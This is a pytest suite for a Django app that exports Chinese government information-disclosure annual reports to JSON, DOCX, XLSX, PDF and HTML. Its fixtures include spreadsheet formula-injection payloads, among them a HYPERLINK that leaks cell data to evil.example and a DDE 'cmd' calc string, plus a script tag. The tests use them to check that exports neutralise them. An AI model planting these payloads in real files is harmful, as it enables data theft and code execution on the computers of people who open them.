"""Exports of the annual report: every label, span and number in every format (anchors §1.1).

The expected labels and merged ranges below are written here from
``shared/research/anchors.md`` §1.1, not read from ``gongkai.reports.format``: a typo there fails here.
Each table cell of the test figures holds a different number, so a number in the wrong cell shows.
"""

from __future__ import annotations

import datetime
import io
import json
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.template import Context, Template
from docx import Document
from docx.oxml.ns import qn
from openpyxl import load_workbook
from pypdf import PdfReader
from pypdf.generic import ContentStream

from gongkai.reports.export import export_docx, export_json, export_pdf, export_xlsx
from gongkai.reports.format import (
    TABLE2_ROWS,
    TABLE3_COLUMNS,
    TABLE3_ROWS,
    TABLE4_GROUPS,
    TABLE4_RESULTS,
    Figures,
)

AGENCY = "示范县人力资源和社会保障局"
WHEN = datetime.datetime(2026, 1, 20, 9, 30, tzinfo=datetime.UTC)

# ----------------------------------------------------------------------------- anchors §1.1, verbatim

T2_TEXT = [
    "第二十条第（一）项",
    "信息内容", "本年制发件数", "本年废止件数", "现行有效件数",
    "规章",
    "行政规范性文件",
    "第二十条第（五）项",
    "信息内容", "本年处理决定数量",
    "行政许可",
    "第二十条第（六）项",
    "信息内容", "本年处理决定数量",
    "行政处罚",
    "行政强制",
    "第二十条第（八）项",
    "信息内容", "本年收费金额（单位：万元）",
    "行政事业性收费",
]  # fmt: skip
T3_HEADER = [
    "（本列数据的勾稽关系为：第一项加第二项之和，等于第三项加第四项之和）",
    "申请人情况",
    "自然人", "法人或其他组织", "总计",
    "商业企业", "科研机构", "社会公益组织", "法律服务机构", "其他",
]  # fmt: skip
T3_LABELS = [
    "一、本年新收政府信息公开申请数量",
    "二、上年结转政府信息公开申请数量",
    "三、本年度办理结果",
    "（一）予以公开",
    "（二）部分公开（区分处理的，只计这一情形，不计其他情形）",
    "（三）不予公开",
    "1.属于国家秘密",
    "2.其他法律行政法规禁止公开",
    "3.危及“三安全一稳定”",
    "4.保护第三方合法权益",
    "5.属于三类内部事务信息",
    "6.属于四类过程性信息",
    "7.属于行政执法案卷",
    "8.属于行政查询事项",
    "（四）无法提供",
    "1.本机关不掌握相关政府信息",
    "2.没有现成信息需要另行制作",
    "3.补正后申请内容仍不明确",
    "（五）不予处理",
    "1.信访举报投诉类申请",
    "2.重复申请",
    "3.要求提供公开出版物",
    "4.无正当理由大量反复申请",
    "5.要求行政机关确认或重新出具已获取信息",
    "（六）其他处理",
    "1.申请人无正当理由逾期不补正、行政机关不再处理其政府信息公开申请",
    "2.申请人逾期未按收费通知要求缴纳费用、行政机关不再处理其政府信息公开申请",
    "3.其他",
    "（七）总计",
    "四、结转下年度继续办理",
]
RESULTS = ["结果维持", "结果纠正", "其他结果", "尚未审结", "总计"]
T4_HEADER = ["行政复议", "行政诉讼", *RESULTS, "未经复议直接起诉", "复议后起诉", *RESULTS, *RESULTS]
HEADINGS = [
    "一、总体情况",
    "二、主动公开政府信息情况",
    "三、收到和处理政府信息公开申请情况",
    "四、政府信息公开行政复议、行政诉讼情况",
    "五、存在的主要问题及改进情况",
    "六、其他需要报告的事项",
]
# Merged cells as published: (first row, first column, rows, columns), 0-based over the table.
T2_MERGED = {
    (0, 0, 1, 4), (4, 0, 1, 4), (5, 1, 1, 3), (6, 1, 1, 3), (7, 0, 1, 4), (8, 1, 1, 3), (9, 1, 1, 3),
    (10, 1, 1, 3), (11, 0, 1, 4), (12, 1, 1, 3), (13, 1, 1, 3),
}  # fmt: skip
T3_MERGED = {
    (0, 0, 3, 3),  # the corner note
    (0, 3, 1, 7),  # 申请人情况
    (1, 3, 2, 1),  # 自然人
    (1, 4, 1, 5),  # 法人或其他组织
    (1, 9, 2, 1),  # 总计
    (3, 0, 1, 3),  # 一、
    (4, 0, 1, 3),  # 二、
    (5, 0, 22, 1),  # 三、本年度办理结果
    (5, 1, 1, 2),  # （一）
    (6, 1, 1, 2),  # （二）
    (7, 1, 8, 1),  # （三）
    (15, 1, 3, 1),  # （四）
    (18, 1, 5, 1),  # （五）
    (23, 1, 3, 1),  # （六）
    (26, 1, 1, 2),  # （七）总计
    (27, 0, 1, 3),  # 四、
}
T4_MERGED = {(0, 0, 1, 5), (0, 5, 1, 10), *((1, c, 2, 1) for c in range(5)), (1, 5, 1, 5), (1, 10, 1, 5)}
MERGED = {"table2": T2_MERGED, "table3": T3_MERGED, "table4": T4_MERGED}
SHAPES = {"table2": (14, 4), "table3": (28, 10), "table4": (4, 15)}

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
TEXT = {
    "proactive": "本年主动公开政府信息120条。\n" + HOSTILE,
    "on_request": "+cmd|' /C calc'!A0",
    "management": "-2+3",
    "platform": "@SUM(1+1)",
    "supervision": "监督保障情况。",
    "problems": "一是公开质量有待提高。=1+1",
    "other": "依据《政府信息公开信息处理费管理办法》规定，本年未收取信息处理费。",
}


def distinct_figures() -> Figures:
    """Every cell a different number (the fee amount a Decimal in 万元)."""
    f = Figures(agency_id=1, year=2025)
    n = 100
    for r in TABLE2_ROWS:
        for c, _ in r.columns:
            n += 1
            f.table2[r.key][c] = Decimal("12.35") if r.key == "fees" else n
    for row in TABLE3_ROWS:
        for c, _ in TABLE3_COLUMNS:
            n += 1
            f.table3[row.key][c] = n
    for g, _ in TABLE4_GROUPS:
        for c, _ in TABLE4_RESULTS:
            n += 1
            f.table4[g][c] = n
    return f


def json_numbers(data: dict) -> dict[str, list]:
    """The numbers of each table from the JSON export, in reading order."""
    return {
        "table2": [v for row in data["table2"] for v in row["values"]],
        "table3": [v for row in data["table3"]["rows"] for v in row["values"]],
        "table4": [v for row in data["table4"] for v in row["values"]],
    }


@pytest.fixture(scope="module")
def figures() -> Figures:
    return distinct_figures()


@pytest.fixture(scope="module")
def data(figures) -> dict:
    return json.loads(export_json(figures, TEXT, agency_name=AGENCY))


# ----------------------------------------------------------------------------- JSON


def test_json_has_every_row_with_its_exact_label_and_numbers(data, figures):
    assert data["agency"] == AGENCY and data["year"] == 2025
    assert data["title"] == f"{AGENCY}2025年政府信息公开工作年度报告"
    assert [s["heading"] for s in data["sections"]] == HEADINGS
    t3_rows = [row["label"] for row in data["table3"]["rows"]]
    assert t3_rows == [
        label for label in T3_LABELS if label not in ("三、本年度办理结果",) and not _is_group(label)
    ]
    assert data["table3"]["columns"] == [
        "自然人",
        "商业企业",
        "科研机构",
        "社会公益组织",
        "法律服务机构",
        "其他",
        "总计",
    ]
    assert [row["label"] for row in data["table2"]] == [
        "规章",
        "行政规范性文件",
        "行政许可",
        "行政处罚",
        "行政强制",
        "行政事业性收费",
    ]
    assert [row["label"] for row in data["table4"]] == ["行政复议", "未经复议直接起诉", "复议后起诉"]
    numbers = json_numbers(data)
    assert numbers["table2"][-1] == 12.35
    assert len(numbers["table3"]) == 175 and numbers["table3"][0] == figures.table3["new"]["natural"]
    overview = next(s for s in data["sections"] if s["key"] == "overview")
    assert overview["parts"][0]["text"].endswith(HOSTILE)


def _is_group(label: str) -> bool:
    return label in ("（三）不予公开", "（四）无法提供", "（五）不予处理", "（六）其他处理")


# ----------------------------------------------------------------------------- DOCX


def docx_grid(table) -> tuple[dict[tuple[int, int], str], set[tuple[int, int, int, int]]]:
    """(origin cell → text, merged ranges) read from the table's XML: w:gridSpan and w:vMerge."""
    origins: dict[tuple[int, int], list[int]] = {}
    texts: dict[tuple[int, int], str] = {}
    open_vertical: dict[int, tuple[int, int]] = {}
    for r, tr in enumerate(table._tbl.tr_lst):
        c = 0
        for tc in tr.tc_lst:
            span = tc.grid_span
            vmerge = tc.tcPr.find(qn("w:vMerge")) if tc.tcPr is not None else None
            if vmerge is not None and vmerge.get(qn("w:val")) != "restart":
                origin = open_vertical[c]
                origins[origin][0] += 1
            else:
                origins[(r, c)] = [1, span]
                texts[(r, c)] = "\n".join(
                    "".join(t.text or "" for t in p.iter(qn("w:t"))) for p in tc.iter(qn("w:p"))
                )
                if vmerge is not None:
                    open_vertical[c] = (r, c)
            c += span
    merged = {(r, c, rs, cs) for (r, c), (rs, cs) in origins.items() if rs > 1 or cs > 1}
    return texts, merged


@pytest.fixture(scope="module")
def docx_doc(figures):
    return Document(io.BytesIO(export_docx(figures, TEXT, agency_name=AGENCY, generated_at=WHEN)))


def test_docx_tables_have_the_official_labels_spans_and_every_number(docx_doc, data):
    tables = dict(zip(("table2", "table3", "table4"), docx_doc.tables, strict=True))
    numbers = json_numbers(data)
    expected_labels = {"table2": T2_TEXT, "table3": T3_HEADER + T3_LABELS, "table4": T4_HEADER}
    for key, table in tables.items():
        texts, merged = docx_grid(table)
        assert (len(table.rows), len(table.columns)) == SHAPES[key]
        assert merged == MERGED[key], key
        ordered = [texts[pos] for pos in sorted(texts)]
        labels = [t for t in ordered if not re.fullmatch(r"\d+(\.\d+)?", t)]
        values = [t for t in ordered if re.fullmatch(r"\d+(\.\d+)?", t)]
        assert labels == expected_labels[key], key
        assert values == [_text(v) for v in numbers[key]], key


def _text(value) -> str:
    return str(value) if not isinstance(value, float) else format(value, "g")


def test_docx_text_fonts_and_metadata(docx_doc):
    paragraphs = [p.text for p in docx_doc.paragraphs if p.text]
    assert paragraphs[0] == f"{AGENCY}2025年政府信息公开工作年度报告"
    assert [p for p in paragraphs if p in HEADINGS] == HEADINGS
    assert HOSTILE in paragraphs and "（一）主动公开" in paragraphs
    fonts = {
        r._element.rPr.rFonts.get(qn("w:eastAsia"))
        for r in docx_doc.tables[1].rows[3].cells[0].paragraphs[0].runs
    }
    assert fonts == {"宋体"}
    body_fonts = {
        r._element.rPr.rFonts.get(qn("w:eastAsia"))
        for p in docx_doc.paragraphs
        if p.text == HOSTILE
        for r in p.runs
    }
    assert body_fonts == {"仿宋_GB2312"}
    core = docx_doc.core_properties
    assert core.author == AGENCY and core.title.startswith(AGENCY)
    assert core.created == WHEN
    assert core.last_modified_by == AGENCY
    assert not core.comments and not core.keywords
    # Page numbers as the letters and the PDF print them: '— 1 —', centred.
    footer = docx_doc.sections[0].footer._element
    assert "".join(el.text for el in footer.iter(qn("w:t"))) == "— 1 —"


# ----------------------------------------------------------------------------- XLSX


@pytest.fixture(scope="module")
def xlsx_bytes(figures) -> bytes:
    return export_xlsx(figures, TEXT, agency_name=AGENCY, generated_at=WHEN)


def test_xlsx_tables_have_the_official_labels_spans_and_numbers_as_numbers(xlsx_bytes, data):
    wb = load_workbook(io.BytesIO(xlsx_bytes))
    assert wb.sheetnames[0] == "报告"
    numbers = json_numbers(data)
    expected_labels = {"table2": T2_TEXT, "table3": T3_HEADER + T3_LABELS, "table4": T4_HEADER}
    for key, ws, heading in zip(
        ("table2", "table3", "table4"), wb.worksheets[1:], HEADINGS[1:4], strict=True
    ):
        assert ws["A1"].value == heading
        rows, cols = SHAPES[key]
        merged = {
            (m.min_row - 2, m.min_col - 1, m.max_row - m.min_row + 1, m.max_col - m.min_col + 1)
            for m in ws.merged_cells.ranges
            if m.min_row >= 2
        }
        assert merged == MERGED[key], key
        cells = [ws.cell(row=2 + r, column=1 + c) for r in range(rows) for c in range(cols)]
        values = [c.value for c in cells if isinstance(c.value, (int, float))]
        labels = [c.value for c in cells if isinstance(c.value, str)]
        assert values == numbers[key], key
        assert all(c.data_type == "n" for c in cells if isinstance(c.value, (int, float)))
        assert labels == expected_labels[key], key


def test_xlsx_has_no_formula_even_with_hostile_text(xlsx_bytes):
    wb = load_workbook(io.BytesIO(xlsx_bytes))
    strings = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    strings.append(cell)
    by_value = {c.value: c for c in strings}
    for text in (HOSTILE, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"):
        assert by_value[text].data_type == "s"
        assert by_value[text].quotePrefix, text  # Excel keeps it text when the cell is edited
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
        app = z.read("docProps/app.xml").decode()
        assert "penpyxl" not in app and AGENCY in app
    props = wb.properties
    assert props.creator == props.lastModifiedBy == AGENCY
    assert props.created == props.modified == datetime.datetime(2026, 1, 20, 9, 30)


# ----------------------------------------------------------------------------- PDF


@pytest.fixture(scope="module")
def pdf_reader(figures) -> PdfReader:
    return PdfReader(io.BytesIO(export_pdf(figures, TEXT, agency_name=AGENCY, generated_at=WHEN)))


def _to_unicode(font) -> dict[int, str]:
    """A Type0 font's ToUnicode map (fpdf2 writes bfchar entries only)."""
    cmap = font["/ToUnicode"].get_object().get_data().decode("latin-1")
    assert "beginbfrange" not in cmap
    return {
        int(code, 16): bytes.fromhex(uni).decode("utf-16-be")
        for code, uni in re.findall(r"<([0-9A-Fa-f]{4})>\s*<([0-9A-Fa-f]+)>", cmap.split("beginbfchar", 1)[1])
    }


def pdf_chunks(reader: PdfReader) -> list[str]:
    """The text of each text-showing operator in drawing order (one per cell line), with pypdf.

    pypdf's extract_text() reads fpdf2's embedded Identity CMap as one-byte codes (a NUL before each
    character, and garbage for glyph codes above 255), so the content stream is parsed with pypdf
    and each two-byte code mapped through the font's ToUnicode map."""
    chunks: list[str] = []
    for page in reader.pages:
        fonts = page["/Resources"]["/Font"]  # type: ignore[index]  # pypdf types the values as PdfObject
        maps = {name: _to_unicode(fonts[name].get_object()) for name in fonts}
        current: dict[int, str] = {}
        text = ""
        for operands, op in ContentStream(page.get_contents(), reader).operations:
            if op == b"Tf":
                current = maps[operands[0]]
            elif op in (b"Tj", b"TJ"):
                parts = operands[0] if op == b"TJ" else [operands[0]]
                raw = b"".join(p.original_bytes if hasattr(p, "original_bytes") else b"" for p in parts)
                text += "".join(current[int.from_bytes(raw[i : i + 2], "big")] for i in range(0, len(raw), 2))
            elif op == b"ET":  # one text object: one line of a cell or of a paragraph
                if text.strip():
                    chunks.append(text.strip())
                text = ""
    return chunks


def test_pdf_has_every_number_in_table_order_and_the_labels(pdf_reader, data):
    chunks = pdf_chunks(pdf_reader)
    numbers = json_numbers(data)
    values = [c for c in chunks if re.fullmatch(r"\d+(\.\d+)?", c)]
    assert values == [_text(v) for v in numbers["table2"] + numbers["table3"] + numbers["table4"]]
    squashed = "".join(chunks)
    for label in [*T2_TEXT, *T3_HEADER, *T3_LABELS, *T4_HEADER, *HEADINGS]:
        assert label in squashed, label
    assert HOSTILE in squashed
    fonts = {
        str(f["/BaseFont"])
        for page in pdf_reader.pages
        for f in page["/Resources"]["/Font"].values()
        if f.get_object().get("/Subtype") == "/Type0"
        for f in [f.get_object()]
    }
    assert any("Noto" in name for name in fonts)
    meta = pdf_reader.metadata
    assert meta["/Author"] == AGENCY and meta["/Title"].startswith(AGENCY)
    assert meta["/CreationDate"] == meta["/ModDate"] == "D:20260120173000+08'00'"
    assert meta["/Creator"] == meta["/Producer"] == AGENCY


# ----------------------------------------------------------------------------- HTML


class _Cells(HTMLParser):
    """The th/td cells of each table with their spans, their attributes and the text inside."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: list[list[list[dict]]] = []
        self.cell: dict | None = None
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.tags.append((tag, attrs))
        if tag == "table":
            self.tables.append([])
        elif tag == "tr":
            self.tables[-1].append([])
        elif tag in ("th", "td"):
            self.cell = {"tag": tag, "attrs": attrs, "text": "", "href": None}
            self.tables[-1][-1].append(self.cell)
        elif tag == "a" and self.cell is not None:
            self.cell["href"] = attrs.get("href")

    def handle_endtag(self, tag):
        if tag in ("th", "td"):
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell["text"] += data


def html_positions(rows: list[list[dict]]) -> tuple[list[dict], set]:
    """Place the HTML cells on the grid as a browser does; return them in order and the merged ranges."""
    taken: set[tuple[int, int]] = set()
    placed, merged = [], set()
    for r, row in enumerate(rows):
        c = 0
        for cell in row:
            while (r, c) in taken:
                c += 1
            rs, cs = int(cell["attrs"].get("rowspan", 1)), int(cell["attrs"].get("colspan", 1))
            taken |= {(r + i, c + j) for i in range(rs) for j in range(cs)}
            if rs > 1 or cs > 1:
                merged.add((r, c, rs, cs))
            placed.append({**cell, "pos": (r, c)})
            c += cs
    return placed, merged


def render_tables(figures, **kwargs) -> str:
    template = Template('{% load report_tables %}{% report_tables figures cell_url="cell_url" %}')
    return template.render(Context({"figures": figures, **kwargs}))


def test_html_tables_labels_spans_numbers_and_accessibility(figures, data):
    links = []

    def cell_url(table, row, column):
        links.append((table, row, column))
        return f"/staff/reports/cases/?t={table}&r={row}&c={column}"

    html = render_tables(figures, cell_url=cell_url)
    parser = _Cells()
    parser.feed(html)
    numbers = json_numbers(data)
    expected_labels = {"table2": T2_TEXT, "table3": T3_HEADER + T3_LABELS, "table4": T4_HEADER}
    for key, rows in zip(("table2", "table3", "table4"), parser.tables, strict=True):
        placed, merged = html_positions(rows)
        assert merged == MERGED[key], key
        assert [c["text"] for c in placed if c["tag"] == "td" and "rt-value" in c["attrs"]["class"]] == [
            _text(v) for v in numbers[key]
        ]
        assert [c["text"] for c in placed if "rt-value" not in c["attrs"]["class"]] == expected_labels[key]
        for cell in placed:
            if cell["tag"] == "th":
                assert cell["attrs"]["scope"] in ("col", "colgroup", "row", "rowgroup")
                assert cell["attrs"]["id"]
            elif "rt-value" in cell["attrs"]["class"]:
                assert cell["attrs"]["headers"]
                assert cell["href"] is not None  # every cell of these figures is non-zero
    assert len(links) == 200
    assert html.count("<caption") == 3 and html.count('class="report-scroll"') == 3
    assert 'tabindex="0"' in html and 'role="region"' in html
    assert "style=" not in html  # the CSP forbids inline styles


def test_html_links_only_non_zero_cells_and_none_without_cell_url():
    empty = Figures(agency_id=1, year=2025)
    empty.table3["new"]["natural"] = 3
    linked = render_tables(empty, cell_url=lambda t, r, c: f"/x/{t}/{r}/{c}")
    assert linked.count("<a href") == 1 and '<a href="/x/table3/new/natural">3</a>' in linked
    assert "<a " not in render_tables(empty, cell_url=None)


def test_html_report_body_has_the_six_sections_and_escapes_text(figures):
    html = Template("{% load report_tables %}{% report_body figures text %}").render(
        Context({"figures": figures, "text": {**TEXT, "problems": "<script>alert(1)</script>"}})
    )
    positions = [html.index(h) for h in HEADINGS]
    assert positions == sorted(positions)
    assert "<script>" not in html and "&lt;script&gt;" in html


# ----------------------------------------------------------------------------- the command


@pytest.fixture
def agency(db):
    from gongkai.testing.factories import AgencyFactory

    return AgencyFactory(name=AGENCY, slug="renshe")


@pytest.mark.parametrize("fmt", ["json", "docx", "pdf", "xlsx"])
def test_command_writes_each_format_with_the_reports_text(agency, tmp_path, fmt):
    from gongkai.reports.models import AnnualReport
    from gongkai.testing.factories import UserFactory

    AnnualReport.objects.create(agency=agency, year=2025, text=TEXT, created_by=UserFactory())
    out = tmp_path / f"report.{fmt}"
    call_command(
        "annual_report", agency=agency.code, year="2025", format=fmt, output=str(out), stderr=io.StringIO()
    )
    payload = out.read_bytes()
    if fmt == "json":
        data = json.loads(payload)
        assert data["agency"] == AGENCY and data["year"] == 2025
        assert data["sections"][0]["parts"][0]["text"].endswith(HOSTILE)
        assert all(v == 0 for v in json_numbers(data)["table3"])
    elif fmt == "docx":
        assert HOSTILE in [p.text for p in Document(io.BytesIO(payload)).paragraphs]
    elif fmt == "pdf":
        assert HOSTILE in "".join(pdf_chunks(PdfReader(io.BytesIO(payload))))
    else:
        wb = load_workbook(io.BytesIO(payload))
        assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_command_by_slug_to_stdout_uses_the_draft_without_a_report(agency):
    stdout = io.StringIO()
    call_command("annual_report", agency="renshe", year="2025", format="json", output="-", stdout=stdout)
    data = json.loads(stdout.getvalue())
    assert data["agency"] == AGENCY
    overview = data["sections"][0]["parts"]
    assert any(p["text"] for p in overview)  # the generated first draft


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"agency": "nobody", "year": "2025", "format": "json"}, "找不到机关“nobody”"),
        ({"year": "20x5", "format": "json"}, "年度“20x5”无效"),
        ({"year": "2019", "format": "json"}, "年度“2019”无效"),
        ({"year": "2999", "format": "json"}, "年度“2999”无效"),
        ({"year": "2025", "format": "pdf"}, "不能写到标准输出"),
    ],
)
def test_command_errors_are_in_chinese(agency, options, message):
    options = {"agency": agency.slug, "output": "-", **options}
    with pytest.raises(CommandError, match=message):
        call_command("annual_report", **options, stdout=io.StringIO())


def test_command_refuses_a_missing_output_directory(agency, tmp_path):
    with pytest.raises(CommandError, match="输出目录"):
        call_command(
            "annual_report",
            agency=agency.slug,
            year="2025",
            format="json",
            output=str(tmp_path / "no" / "r.json"),
        )


# ----------------------------------------------------------------------------- LibreOffice

SOFFICE = shutil.which("soffice")
PDFTOTEXT = shutil.which("pdftotext")
# Writer opens the DOCX and Calc the XLSX: Debian packages them apart (libreoffice-writer-nogui,
# libreoffice-calc-nogui), so a machine may have soffice with only one of them.
LIBREOFFICE_PROGRAMS = Path(SOFFICE).resolve().parent if SOFFICE else None
LIBREOFFICE_COMPLETE = LIBREOFFICE_PROGRAMS is not None and all(
    (LIBREOFFICE_PROGRAMS / module).exists() for module in ("libswlo.so", "libsclo.so")
)


@pytest.mark.skipif(
    not LIBREOFFICE_COMPLETE or PDFTOTEXT is None, reason="LibreOffice Writer and Calc not installed"
)
def test_libreoffice_opens_the_docx_and_xlsx_with_every_label_and_number(figures, data, xlsx_bytes, tmp_path):
    """The DOCX and XLSX convert to PDF in LibreOffice (headless) and the result carries the labels
    and every number of tables 三 and 四 (a file LibreOffice rejects or mangles fails here)."""
    docx_path, xlsx_path = tmp_path / "from_docx.docx", tmp_path / "from_xlsx.xlsx"
    docx_path.write_bytes(export_docx(figures, TEXT, agency_name=AGENCY, generated_at=WHEN))
    xlsx_path.write_bytes(xlsx_bytes)
    profile = tmp_path / "profile"
    subprocess.run(  # noqa: S603 (fixed programs, paths under tmp_path)
        [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "pdf",
         "--outdir", str(tmp_path), str(docx_path), str(xlsx_path)],
        check=True, capture_output=True, timeout=240,
    )  # fmt: skip
    numbers = json_numbers(data)
    for pdf in (tmp_path / "from_docx.pdf", tmp_path / "from_xlsx.pdf"):
        text = subprocess.run(  # noqa: S603
            [PDFTOTEXT, "-layout", str(pdf), "-"], check=True, capture_output=True
        ).stdout.decode()
        squashed = re.sub(r"\s+", "", text)
        for label in [
            "1.属于国家秘密",
            "3.危及“三安全一稳定”",
            "（七）总计",
            "四、结转下年度继续办理",
            "复议后起诉",
        ]:
            assert label in squashed, (pdf.name, label)
        tokens = re.findall(r"\d+(?:\.\d+)?", text)
        for value in numbers["table3"] + numbers["table4"]:
            assert str(value) in tokens, (pdf.name, value)
